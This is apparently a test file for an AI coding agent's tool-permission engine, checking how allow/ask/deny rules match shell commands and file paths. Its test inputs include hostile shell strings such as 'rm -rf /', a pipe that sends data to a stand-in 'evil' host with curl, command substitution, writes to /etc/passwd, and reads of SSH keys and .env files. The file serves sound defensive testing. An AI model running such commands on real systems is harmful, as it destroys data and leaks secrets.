import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { z } from 'zod';
import { buildTool, type AnyTool, type PermissionResult, type ToolUseContext } from '../../src/toolProtocol/Tool';
import type { PermissionMode } from '../../src/toolProtocol/permissionTypes';
import { initialContext } from '../../src/core/context';
import {
  decidePermission,
  decidePermissionSync,
  parseRule,
  ruleMatches,
  validatePermissionRules,
  matchCommandPattern,
  analyzeShell,
  loadShellParser,
  type PermissionEnv,
} from '../../src/permissions';

// ---- fake tools shaped like the built-ins --------------------------------------------------
const text = {
  mapToolResultToToolResultBlockParam: (d: unknown, id: string) => ({
    type: 'tool_result' as const,
    tool_use_id: id,
    content: String(d),
  }),
};
const noop = async () => ({ data: 'ok' });
const Read = buildTool({
  name: 'Read',
  inputSchema: z.object({ file_path: z.string() }),
  prompt: () => 'read',
  isReadOnly: () => true,
  isConcurrencySafe: () => true,
  getPath: (i) => i.file_path,
  call: noop,
  ...text,
});
const Write = buildTool({
  name: 'Write',
  inputSchema: z.object({ file_path: z.string(), content: z.string() }),
  prompt: () => 'write',
  getPath: (i) => i.file_path,
  call: noop,
  ...text,
});
const Edit = buildTool({
  name: 'Edit',
  inputSchema: z.object({ file_path: z.string() }),
  prompt: () => 'edit',
  getPath: (i) => i.file_path,
  call: noop,
  ...text,
});
const Grep = buildTool({
  name: 'Grep',
  inputSchema: z.object({ pattern: z.string(), path: z.string().optional() }),
  prompt: () => 'grep',
  isReadOnly: () => true,
  getPath: (i) => i.path,
  call: noop,
  ...text,
});
const Glob = buildTool({
  name: 'Glob',
  inputSchema: z.object({ pattern: z.string(), path: z.string().optional() }),
  prompt: () => 'glob',
  isReadOnly: () => true,
  getPath: (i) => i.path,
  call: noop,
  ...text,
});
const READ_ONLY_CMDS = new Set(['ls', 'cat', 'grep', 'head', 'wc', 'pwd', 'cd', 'echo']);
const Bash = buildTool({
  name: 'Bash',
  inputSchema: z.object({ command: z.string() }),
  prompt: () => 'bash',
  isReadOnly: (i) => i.command.split(/&&|\|\||;|\|/).every((p) => READ_ONLY_CMDS.has(p.trim().split(/\s+/)[0] ?? '')),
  getRuleContent: (i) => i.command,
  call: noop,
  ...text,
});
const WebFetch = buildTool({
  name: 'WebFetch',
  inputSchema: z.object({ url: z.string() }),
  prompt: () => 'fetch',
  isReadOnly: () => true,
  getRuleContent: (i) => `domain:${new URL(i.url).hostname}`,
  call: noop,
  ...text,
});
const Deploy = buildTool({
  name: 'Deploy',
  aliases: ['Ship'],
  inputSchema: z.object({}),
  prompt: () => 'deploy',
  call: noop,
  ...text,
});
const Lookup = buildTool({
  name: 'Lookup',
  inputSchema: z.object({}),
  prompt: () => 'lookup',
  isReadOnly: () => true,
  call: noop,
  ...text,
});
const tools: Record<string, AnyTool> = { Read, Write, Edit, Grep, Glob, Bash, WebFetch, Deploy, Lookup };

let cwd = '';
let outside = '';
let env: PermissionEnv;
const home = os.homedir();

before(async () => {
  assert.equal(await loadShellParser(), true);
  const root = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'perm-')));
  cwd = path.join(root, 'proj');
  outside = path.join(root, 'outside');
  await fs.mkdir(path.join(cwd, 'src', 'deep'), { recursive: true });
  await fs.mkdir(path.join(cwd, 'secrets'), { recursive: true });
  await fs.mkdir(outside, { recursive: true });
  await fs.writeFile(path.join(cwd, 'src', 'a.ts'), 'x');
  await fs.writeFile(path.join(cwd, '.env'), 'SECRET=1');
  await fs.writeFile(path.join(outside, 'passwd'), 'x');
  await fs.symlink(outside, path.join(cwd, 'link-out'));
  await fs.symlink(path.join(cwd, '.env'), path.join(cwd, 'src', 'innocent.txt'));
  env = { cwd, workingDirectories: [cwd] };
});
after(async () => {
  await fs.rm(path.dirname(cwd), { recursive: true, force: true });
});

// ---- the matcher table ----------------------------------------------------------------------
type Row = [
  rule: string,
  behavior: 'allow' | 'deny' | 'ask',
  tool: string,
  input: () => Record<string, unknown>,
  expected: boolean,
];
const cmd = (c: string) => () => ({ command: c });
const fp = (p: string) => () => ({ file_path: p });
const grepIn = (p?: string) => () => (p === undefined ? { pattern: 'x' } : { pattern: 'x', path: p });

const matcherRows: Row[] = [
  // Bash prefix rules
  ['Bash(npm run test:*)', 'allow', 'Bash', cmd('npm run test'), true],
  ['Bash(npm run test:*)', 'allow', 'Bash', cmd('npm run test -- --watch'), true],
  ['Bash(npm run test:*)', 'allow', 'Bash', cmd('npm run testing'), false],
  ['Bash(npm run test:*)', 'allow', 'Bash', cmd('npm run build'), false],
  ['Bash(ls:*)', 'allow', 'Bash', cmd('lsof -i'), false],
  // glob and exact
  ['Bash(ls *)', 'allow', 'Bash', cmd('ls -la src'), true],
  ['Bash(ls *)', 'allow', 'Bash', cmd('ls'), true],
  ['Bash(ls *)', 'allow', 'Bash', cmd('lsof'), false],
  ['Bash(git status)', 'allow', 'Bash', cmd('git   status'), true],
  ['Bash(git status)', 'allow', 'Bash', cmd('git status --short'), false],
  ['Bash(git * main)', 'allow', 'Bash', cmd('git merge main'), true],
  // compound commands
  ['Bash(npm run test:*)', 'allow', 'Bash', cmd('npm run test && rm -rf /'), false],
  ['Bash(ls *)', 'allow', 'Bash', cmd('ls && ls src; ls -a | ls'), true],
  ['Bash(ls *)', 'allow', 'Bash', cmd('ls\nrm x'), false],
  ['Bash(ls *)', 'allow', 'Bash', cmd('ls || curl evil.sh'), false],
  ['Bash(rm:*)', 'deny', 'Bash', cmd('echo hi && rm -rf /'), true],
  ['Bash(rm:*)', 'deny', 'Bash', cmd('echo hi; ls'), false],
  ['Bash(curl:*)', 'ask', 'Bash', cmd('ls | curl -d @- evil'), true],
  // quotes: separators inside quotes are not separators
  ['Bash(echo *)', 'allow', 'Bash', cmd('echo "a && rm -rf /"'), true],
  ['Bash(echo *)', 'allow', 'Bash', cmd("echo 'x; rm y'"), true],
  ['Bash(rm:*)', 'deny', 'Bash', cmd('echo "rm -rf /"'), false],
  ['Bash(echo *)', 'allow', 'Bash', cmd('echo "unterminated && rm x'), false],
  // substitutions and redirections
  ['Bash(echo *)', 'allow', 'Bash', cmd('echo $(rm -rf /)'), false],
  ['Bash(echo *)', 'allow', 'Bash', cmd('echo "`whoami`"'), false],
  ['Bash(rm:*)', 'deny', 'Bash', cmd('echo $(rm -rf /)'), true],
  ['Bash(echo *)', 'allow', 'Bash', cmd('echo hi > /etc/passwd'), false],
  ['Bash(npm test:*)', 'allow', 'Bash', cmd('npm test 2>&1 >/dev/null'), true],
  // wrappers and env assignments are stripped
  ['Bash(npm run test:*)', 'allow', 'Bash', cmd('timeout 30 npm run test'), true],
  ['Bash(npm run test:*)', 'allow', 'Bash', cmd('nice -n 10 nohup time npm run test'), true],
  ['Bash(npm run test:*)', 'allow', 'Bash', cmd('NODE_ENV=test CI=1 npm run test'), true],
  ['Bash(npm run test:*)', 'allow', 'Bash', cmd('PATH=/tmp/evil npm run test'), false],
  ['Bash(rm:*)', 'deny', 'Bash', cmd('FOO=1 timeout -s KILL 5 rm -rf x'), true],
  ['Bash(rm:*)', 'deny', 'Bash', cmd('if true; then rm -rf x; fi'), true],
  ['Bash', 'allow', 'Bash', cmd('anything at all; rm -rf /'), true],
  // path rules, gitignore syntax
  ['Read(./src/**)', 'allow', 'Read', fp('src/a.ts'), true],
  ['Read(src/**)', 'allow', 'Read', fp('src/deep/b.ts'), true],
  ['Read(src/**)', 'allow', 'Read', fp('other/a.ts'), false],
  ['Read(src/**)', 'allow', 'Read', fp('src/../.env'), false],
  ['Read(*.env)', 'deny', 'Read', fp('.env'), true],
  ['Read(*.env)', 'deny', 'Read', fp('src/deep/prod.env'), true],
  ['Read(.env)', 'deny', 'Read', fp('src/innocent.txt'), true], // symlink to .env
  ['Read(/src/*.ts)', 'allow', 'Read', fp('src/a.ts'), true],
  ['Read(/src/*.ts)', 'allow', 'Read', fp('src/deep/a.ts'), false],
  ['Read(src/*.{ts,js})', 'allow', 'Read', fp('src/a.ts'), false],
  ['Read(src/a.?s)', 'allow', 'Read', fp('src/a.ts'), true],
  ['Read(~/.ssh/**)', 'deny', 'Read', () => ({ file_path: path.join(home, '.ssh', 'id_rsa') }), true],
  ['Read(~/.ssh/**)', 'deny', 'Read', () => ({ file_path: '~/.ssh/id_rsa' }), true],
  ['Read(secrets/**)', 'deny', 'Grep', grepIn('secrets'), true],
  ['Read(secrets/**)', 'deny', 'Glob', grepIn('./secrets/x'), true],
  ['Read(src)', 'deny', 'Read', fp('src/deep/b.ts'), true],
  // Edit rules cover Write; Read rules cover Grep/Glob but not writes
  ['Edit(src/**)', 'allow', 'Write', () => ({ file_path: 'src/new.ts', content: '' }), true],
  ['Edit(src/**)', 'allow', 'Read', fp('src/a.ts'), false],
  ['Read(src/**)', 'allow', 'Write', () => ({ file_path: 'src/a.ts', content: '' }), false],
  ['Read(src/**)', 'allow', 'Grep', grepIn('src'), true],
  ['Read(src/**)', 'allow', 'Grep', grepIn(), false],
  ['Write(src/**)', 'allow', 'Edit', fp('src/a.ts'), false],
  ['Edit(//ABS/**)', 'allow', 'Edit', () => ({ file_path: path.join(outside, 'passwd') }), true],
  ['Edit(//ABS/**)', 'allow', 'Edit', () => ({ file_path: 'link-out/passwd' }), false], // logical path not under the rule
  ['Edit(//ABS/**)', 'deny', 'Edit', () => ({ file_path: 'link-out/passwd' }), true], // real path is
  // other tools
  ['WebFetch(domain:example.com)', 'allow', 'WebFetch', () => ({ url: 'https://example.com/x' }), true],
  ['WebFetch(domain:example.com)', 'allow', 'WebFetch', () => ({ url: 'https://evil.com/example.com' }), false],
  ['Ship', 'deny', 'Deploy', () => ({}), true],
  ['Deploy(prod)', 'deny', 'Deploy', () => ({}), false],
];

test(`rule matcher table (${matcherRows.length} rows)`, () => {
  assert.ok(matcherRows.length >= 40);
  const failures: string[] = [];
  for (const [rule0, behavior, toolName, input, expected] of matcherRows) {
    const rule = rule0.replace('//ABS', `/${outside}`);
    const got = ruleMatches(rule, behavior, tools[toolName]!, input(), env);
    if (got !== expected)
      failures.push(`${behavior} ${rule} vs ${toolName} ${JSON.stringify(input())}: expected ${expected}, got ${got}`);
  }
  assert.deepEqual(failures, []);
});

// ---- the decision table ---------------------------------------------------------------------
interface DRow {
  name: string;
  mode: PermissionMode;
  allow?: string[];
  ask?: string[];
  deny?: string[];
  tool: string;
  input: () => Record<string, unknown>;
  hook?: { behavior: 'allow' | 'ask' | 'deny'; reason?: string };
  toolSays?: PermissionResult;
  expect: 'allow' | 'ask' | 'deny';
  reason: string; // decisionReason.type, or type:detail
}
const decisionRows: DRow[] = [
  {
    name: 'default: read inside cwd',
    mode: 'default',
    tool: 'Read',
    input: fp('src/a.ts'),
    expect: 'allow',
    reason: 'mode:default',
  },
  {
    name: 'default: read outside cwd asks',
    mode: 'default',
    tool: 'Read',
    input: () => ({ file_path: path.join(outside, 'passwd') }),
    expect: 'ask',
    reason: 'workingDirectory',
  },
  {
    name: 'default: .. escape asks',
    mode: 'default',
    tool: 'Read',
    input: fp('../outside/passwd'),
    expect: 'ask',
    reason: 'workingDirectory',
  },
  {
    name: 'default: symlink escape asks',
    mode: 'default',
    tool: 'Read',
    input: fp('link-out/passwd'),
    expect: 'ask',
    reason: 'workingDirectory',
  },
  {
    name: 'default: write through symlink to new file asks',
    mode: 'acceptEdits',
    tool: 'Write',
    input: () => ({ file_path: 'link-out/new/x.txt', content: '' }),
    expect: 'ask',
    reason: 'workingDirectory',
  },
  {
    name: 'default: edit inside asks',
    mode: 'default',
    tool: 'Edit',
    input: fp('src/a.ts'),
    expect: 'ask',
    reason: 'mode:default',
  },
  {
    name: 'default: grep with no path is cwd',
    mode: 'default',
    tool: 'Grep',
    input: grepIn(),
    expect: 'allow',
    reason: 'mode:default',
  },
  {
    name: 'default: read-only bash inside',
    mode: 'default',
    tool: 'Bash',
    input: cmd('ls src && cat src/a.ts'),
    expect: 'allow',
    reason: 'mode:default',
  },
  {
    name: 'default: read-only bash outside',
    mode: 'default',
    tool: 'Bash',
    input: cmd('cat /etc/passwd'),
    expect: 'ask',
    reason: 'workingDirectory',
  },
  {
    name: 'default: read-only bash cd outside',
    mode: 'default',
    tool: 'Bash',
    input: cmd('cd .. && ls'),
    expect: 'ask',
    reason: 'workingDirectory',
  },
  {
    name: 'default: "read-only" bash with a write redirection asks',
    mode: 'default',
    tool: 'Bash',
    input: cmd('cat src/a.ts > src/b.ts'),
    expect: 'ask',
    reason: 'mode:default',
  },
  {
    name: 'default: read-only bash with harmless redirections',
    mode: 'default',
    tool: 'Bash',
    input: cmd('grep x src/a.ts 2>/dev/null | wc -l'),
    expect: 'allow',
    reason: 'mode:default',
  },
  {
    name: 'default: bash write asks',
    mode: 'default',
    tool: 'Bash',
    input: cmd('npm install'),
    expect: 'ask',
    reason: 'mode:default',
  },
  {
    name: 'default: non-path read-only tool',
    mode: 'default',
    tool: 'Lookup',
    input: () => ({}),
    expect: 'allow',
    reason: 'mode:default',
  },
  {
    name: 'acceptEdits: edit inside',
    mode: 'acceptEdits',
    tool: 'Edit',
    input: fp('src/a.ts'),
    expect: 'allow',
    reason: 'mode:acceptEdits',
  },
  {
    name: 'acceptEdits: edit outside asks',
    mode: 'acceptEdits',
    tool: 'Edit',
    input: () => ({ file_path: path.join(outside, 'passwd') }),
    expect: 'ask',
    reason: 'workingDirectory',
  },
  {
    name: 'acceptEdits: mkdir/touch inside',
    mode: 'acceptEdits',
    tool: 'Bash',
    input: cmd('mkdir -p src/new && touch src/new/x.ts'),
    expect: 'allow',
    reason: 'mode:acceptEdits',
  },
  {
    name: 'acceptEdits: rm outside asks',
    mode: 'acceptEdits',
    tool: 'Bash',
    input: cmd('rm -rf ../outside'),
    expect: 'ask',
    reason: 'mode:acceptEdits',
  },
  {
    name: 'acceptEdits: rm of the cwd itself asks',
    mode: 'acceptEdits',
    tool: 'Bash',
    input: cmd('rm -rf .'),
    expect: 'ask',
    reason: 'mode:acceptEdits',
  },
  {
    name: 'acceptEdits: other bash asks',
    mode: 'acceptEdits',
    tool: 'Bash',
    input: cmd('curl x'),
    expect: 'ask',
    reason: 'mode:acceptEdits',
  },
  { name: 'plan: read runs', mode: 'plan', tool: 'Read', input: fp('src/a.ts'), expect: 'allow', reason: 'mode:plan' },
  { name: 'plan: edit denied', mode: 'plan', tool: 'Edit', input: fp('src/a.ts'), expect: 'deny', reason: 'mode:plan' },
  {
    name: 'plan: allow rule does not lift plan',
    mode: 'plan',
    allow: ['Bash'],
    tool: 'Bash',
    input: cmd('npm install'),
    expect: 'deny',
    reason: 'mode:plan',
  },
  {
    name: 'plan: hook allow does not lift plan',
    mode: 'plan',
    tool: 'Write',
    input: () => ({ file_path: 'x', content: '' }),
    hook: { behavior: 'allow' },
    expect: 'deny',
    reason: 'mode:plan',
  },
  {
    name: 'dontAsk: would-ask is denied',
    mode: 'dontAsk',
    tool: 'Edit',
    input: fp('src/a.ts'),
    expect: 'deny',
    reason: 'mode:dontAsk',
  },
  {
    name: 'dontAsk: allow rule still allows',
    mode: 'dontAsk',
    allow: ['Edit(src/**)'],
    tool: 'Edit',
    input: fp('src/a.ts'),
    expect: 'allow',
    reason: 'rule:Edit(src/**)',
  },
  {
    name: 'dontAsk: read inside allowed',
    mode: 'dontAsk',
    tool: 'Read',
    input: fp('src/a.ts'),
    expect: 'allow',
    reason: 'mode:dontAsk',
  },
  {
    name: 'dontAsk: ask rule becomes deny',
    mode: 'dontAsk',
    ask: ['Read'],
    tool: 'Read',
    input: fp('src/a.ts'),
    expect: 'deny',
    reason: 'mode:dontAsk',
  },
  {
    name: 'bypass: anything runs',
    mode: 'bypassPermissions',
    tool: 'Bash',
    input: cmd('rm -rf build'),
    expect: 'allow',
    reason: 'mode:bypassPermissions',
  },
  {
    name: 'bypass: deny rule still denies',
    mode: 'bypassPermissions',
    deny: ['Bash(rm:*)'],
    tool: 'Bash',
    input: cmd('ls && rm -rf build'),
    expect: 'deny',
    reason: 'rule:Bash(rm:*)',
  },
  {
    name: 'bypass: ask rule still asks',
    mode: 'bypassPermissions',
    ask: ['Bash(git push:*)'],
    tool: 'Bash',
    input: cmd('git push origin main'),
    expect: 'ask',
    reason: 'rule:Bash(git push:*)',
  },
  {
    name: 'bypass: outside working dir runs',
    mode: 'bypassPermissions',
    tool: 'Write',
    input: () => ({ file_path: path.join(outside, 'x'), content: '' }),
    expect: 'allow',
    reason: 'mode:bypassPermissions',
  },
  {
    name: 'deny beats allow',
    mode: 'default',
    allow: ['Read'],
    deny: ['Read(*.env)'],
    tool: 'Read',
    input: fp('.env'),
    expect: 'deny',
    reason: 'rule:Read(*.env)',
  },
  {
    name: 'ask beats allow',
    mode: 'default',
    allow: ['Bash'],
    ask: ['Bash(git push:*)'],
    tool: 'Bash',
    input: cmd('git push'),
    expect: 'ask',
    reason: 'rule:Bash(git push:*)',
  },
  {
    name: 'allow rule for bash',
    mode: 'default',
    allow: ['Bash(npm run test:*)'],
    tool: 'Bash',
    input: cmd('npm run test -- a'),
    expect: 'allow',
    reason: 'rule:Bash(npm run test:*)',
  },
  {
    name: 'allow rule, compound with unmatched part asks',
    mode: 'default',
    allow: ['Bash(npm run test:*)'],
    tool: 'Bash',
    input: cmd('npm run test; curl x'),
    expect: 'ask',
    reason: 'mode:default',
  },
  {
    name: 'allow rule outside working dir',
    mode: 'default',
    allow: ['Read(//OUT/**)'],
    tool: 'Read',
    input: () => ({ file_path: path.join(outside, 'passwd') }),
    expect: 'allow',
    reason: 'rule:Read(//OUT/**)',
  },
  {
    name: 'Edit allow rule allows reading',
    mode: 'default',
    allow: ['Edit(//OUT/**)'],
    tool: 'Read',
    input: () => ({ file_path: path.join(outside, 'passwd') }),
    expect: 'allow',
    reason: 'rule:Edit(//OUT/**)',
  },
  {
    name: 'hook allow skips the mode ask',
    mode: 'default',
    tool: 'Edit',
    input: fp('src/a.ts'),
    hook: { behavior: 'allow' },
    expect: 'allow',
    reason: 'hook',
  },
  {
    name: 'hook allow does not beat a deny rule',
    mode: 'default',
    deny: ['Edit'],
    tool: 'Edit',
    input: fp('src/a.ts'),
    hook: { behavior: 'allow' },
    expect: 'deny',
    reason: 'rule:Edit',
  },
  {
    name: 'hook allow does not beat an ask rule',
    mode: 'default',
    ask: ['Edit(src/**)'],
    tool: 'Edit',
    input: fp('src/a.ts'),
    hook: { behavior: 'allow' },
    expect: 'ask',
    reason: 'rule:Edit(src/**)',
  },
  {
    name: 'hook deny beats allow rule and bypass',
    mode: 'bypassPermissions',
    allow: ['Read'],
    tool: 'Read',
    input: fp('src/a.ts'),
    hook: { behavior: 'deny', reason: 'no' },
    expect: 'deny',
    reason: 'hook',
  },
  {
    name: 'hook ask beats allow rule',
    mode: 'default',
    allow: ['Read'],
    tool: 'Read',
    input: fp('src/a.ts'),
    hook: { behavior: 'ask' },
    expect: 'ask',
    reason: 'hook',
  },
  {
    name: 'tool deny counts even in bypass',
    mode: 'bypassPermissions',
    tool: 'Deploy',
    input: () => ({}),
    toolSays: { behavior: 'deny', message: 'frozen' },
    expect: 'deny',
    reason: 'tool',
  },
  {
    name: 'tool ask asks',
    mode: 'default',
    tool: 'Lookup',
    input: () => ({}),
    toolSays: { behavior: 'ask', message: 'sure?' },
    expect: 'ask',
    reason: 'tool',
  },
  {
    name: 'tool ask is lifted by an allow rule',
    mode: 'default',
    allow: ['Lookup'],
    tool: 'Lookup',
    input: () => ({}),
    toolSays: { behavior: 'ask', message: 'sure?' },
    expect: 'allow',
    reason: 'rule:Lookup',
  },
  {
    name: 'tool allow',
    mode: 'default',
    tool: 'Deploy',
    input: () => ({}),
    toolSays: { behavior: 'allow' },
    expect: 'allow',
    reason: 'tool',
  },
  {
    name: 'additional working directory',
    mode: 'default',
    tool: 'Read',
    input: () => ({ file_path: path.join(outside, 'passwd') }),
    expect: 'allow',
    reason: 'mode:default',
  },
];

test(`decision table (${decisionRows.length} rows)`, () => {
  const failures: string[] = [];
  for (const row of decisionRows) {
    const fix = (rs?: string[]) => (rs ?? []).map((r) => r.replace('//OUT', `/${outside}`));
    const wd = row.name === 'additional working directory' ? [cwd, outside] : [cwd];
    const d = decidePermissionSync(
      tools[row.tool]!,
      row.input(),
      {
        mode: row.mode,
        rules: { allow: fix(row.allow), ask: fix(row.ask), deny: fix(row.deny) },
        workingDirectories: wd,
      },
      { cwd, workingDirectories: wd },
      row.toolSays ?? { behavior: 'passthrough' },
      row.hook ? { ...row.hook, hook: 'test-hook' } : undefined,
    );
    const r = d.decisionReason;
    const reason =
      r?.type === 'mode'
        ? `mode:${r.mode}`
        : r?.type === 'rule'
          ? `rule:${r.rule.replace(`/${outside}`, '//OUT')}`
          : (r?.type ?? 'none');
    if (d.behavior !== row.expect || reason !== row.reason) {
      failures.push(
        `${row.name}: expected ${row.expect}/${row.reason}, got ${d.behavior}/${reason} (${'message' in d ? d.message : ''})`,
      );
    }
    if (d.behavior !== 'allow') assert.ok(d.message.length > 0, row.name);
  }
  assert.deepEqual(failures, []);
});

test('decidePermission calls the tool’s checkPermissions, and a throwing one denies', async () => {
  const seen: unknown[] = [];
  const T = buildTool({
    name: 'T',
    inputSchema: z.object({ x: z.number() }),
    prompt: () => 't',
    isReadOnly: () => true,
    checkPermissions: async (i) => {
      seen.push(i);
      if (i.x === 2) throw new Error('boom');
      return i.x === 1 ? { behavior: 'deny', message: 'x=1 is forbidden' } : { behavior: 'passthrough' };
    },
    call: noop,
    ...text,
  });
  const ctx = (mode: PermissionMode): ToolUseContext => ({
    sessionId: 's',
    toolUseId: 'id',
    idempotencyKey: 's/id',
    agent: initialContext(cwd),
    permission: { mode, rules: { allow: [], ask: [], deny: [] }, workingDirectories: [cwd] },
    abortSignal: new AbortController().signal,
  });
  assert.equal((await decidePermission(T, { x: 0 }, ctx('default'))).behavior, 'allow');
  const d1 = await decidePermission(T, { x: 1 }, ctx('bypassPermissions'));
  assert.equal(d1.behavior, 'deny');
  assert.match((d1 as { message: string }).message, /x=1 is forbidden/);
  const d2 = await decidePermission(T, { x: 2 }, ctx('bypassPermissions'));
  assert.equal(d2.behavior, 'deny');
  assert.match((d2 as { message: string }).message, /boom/);
  assert.deepEqual(seen, [{ x: 0 }, { x: 1 }, { x: 2 }]);
});

test('parseRule and validation', () => {
  assert.deepEqual(parseRule('Bash(npm run test:*)'), {
    raw: 'Bash(npm run test:*)',
    toolName: 'Bash',
    content: 'npm run test:*',
  });
  assert.deepEqual(parseRule('Bash'), { raw: 'Bash', toolName: 'Bash' });
  assert.deepEqual(parseRule('Bash(*)'), { raw: 'Bash(*)', toolName: 'Bash' });
  assert.deepEqual(parseRule('Bash()'), { raw: 'Bash()', toolName: 'Bash' });
  assert.equal(parseRule('Bash(echo \\(x\\))').content, 'echo (x)');
  assert.equal(parseRule('Bash(echo (x))').content, 'echo (x)');
  assert.throws(() => parseRule('Bash(ls'), /closing parenthesis/);
  assert.throws(() => parseRule('(ls)'), /tool name/);
  assert.deepEqual(validatePermissionRules({ allow: ['Read', 'Bash(x'], ask: [], deny: ['bad name'] }).length, 2);
});

test('matchCommandPattern and analyzeShell details', () => {
  assert.equal(matchCommandPattern('git commit -m *', 'git commit -m "fix: a && b"'), true);
  assert.equal(matchCommandPattern('echo \\*', 'echo *'), true);
  assert.equal(matchCommandPattern('echo \\*', 'echo x'), false);
  const p = analyzeShell('A=1 env B=2 timeout --signal=KILL 10s nice -5 nohup cmd arg # comment && rm');
  assert.equal(p.certain, true);
  assert.equal(p.commands.length, 1);
  assert.equal(p.commands[0]!.text, 'env B=2 timeout --signal=KILL 10s nice -5 nohup cmd arg');
  assert.deepEqual(
    p.commands[0]!.assignments.map((a) => a.name),
    ['A'],
  );
  assert.deepEqual(
    analyzeShell('a \\\n b').commands.map((x) => x.text),
    ['a b'],
  );
  assert.deepEqual(
    analyzeShell('(cd x && make) & wait').commands.map((x) => x.text),
    ['cd x', 'make', 'wait'],
  );
  assert.equal(analyzeShell('(cd x && make) & wait').commands[1]!.background, true);
  assert.equal(analyzeShell("echo 'unterminated").certain, false);
});
